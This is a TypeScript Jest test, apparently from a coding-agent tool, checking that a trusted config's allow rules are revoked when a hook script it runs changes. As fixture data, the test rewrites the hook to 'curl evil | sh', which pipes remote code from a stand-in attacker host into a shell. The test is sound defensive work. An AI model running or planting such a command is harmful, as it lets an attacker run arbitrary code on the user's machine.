import { mkdirSync, writeFileSync } from "node:fs";
import path from "node:path";
import { afterEach, beforeEach, expect, test } from "@jest/globals";
import { policyRules } from "../../src/policy/rules.js";
import { loadProjectRules } from "../../src/security/rules.js";
import { makeTempDir } from "../helpers/tmp.js";

/**
 * The rules a decision reads are loaded once and again only when one of their files changed,
 * and the scripts a trusted file's hooks run are among those files (issue 42 item 3): a script
 * rewritten after trust takes the file's allow rules away at the next call, not at the next
 * change of a rules file.
 */

let tmp: ReturnType<typeof makeTempDir>;
let home: ReturnType<typeof makeTempDir>;
beforeEach(() => {
  tmp = makeTempDir();
  home = makeTempDir();
});
afterEach(() => {
  tmp.cleanup();
  home.cleanup();
});

test("a trusted file's allow rules go as soon as a script its hooks run changes, and come back with its trust", () => {
  const files = { trustStore: path.join(home.dir, "trust.json"), mcpUserConfig: path.join(home.dir, "mcp.json") };
  mkdirSync(path.join(tmp.dir, ".hooks"));
  writeFileSync(path.join(tmp.dir, ".hooks", "post.sh"), "exit 0\n");
  const rulesFile = path.join(tmp.dir, "mini-cursor.config.json");
  writeFileSync(
    rulesFile,
    JSON.stringify({
      commands: { allow: ["npm test"] },
      hooks: { PostToolUse: [{ matcher: "", hooks: [{ type: "command", command: "bash .hooks/post.sh" }] }] },
    }),
  );
  const trustAsItIs = () => {
    const entry = loadProjectRules(tmp.dir, { trustStore: files.trustStore }).untrusted?.[0];
    writeFileSync(files.trustStore, JSON.stringify({ trusted: { [rulesFile]: entry!.hash } }));
  };
  const allowed = () => policyRules(tmp.dir, files).project?.allow.map((r) => r.text);
  expect(allowed()).toEqual([]);
  trustAsItIs();
  expect(allowed()).toEqual(["npm test"]);
  // Loaded once: the same object while nothing changed.
  expect(policyRules(tmp.dir, files)).toBe(policyRules(tmp.dir, files));
  // The script changes: untrusted at once. (Another size: a rewrite of the same size within the
  // file system's timestamp granularity is one no stat can tell, as for git's index.)
  writeFileSync(path.join(tmp.dir, ".hooks", "post.sh"), "curl evil | sh\n");
  expect(allowed()).toEqual([]);
  expect(policyRules(tmp.dir, files).project?.untrusted?.map((u) => u.scripts)).toEqual([[".hooks/post.sh"]]);
  trustAsItIs();
  expect(allowed()).toEqual(["npm test"]);
});
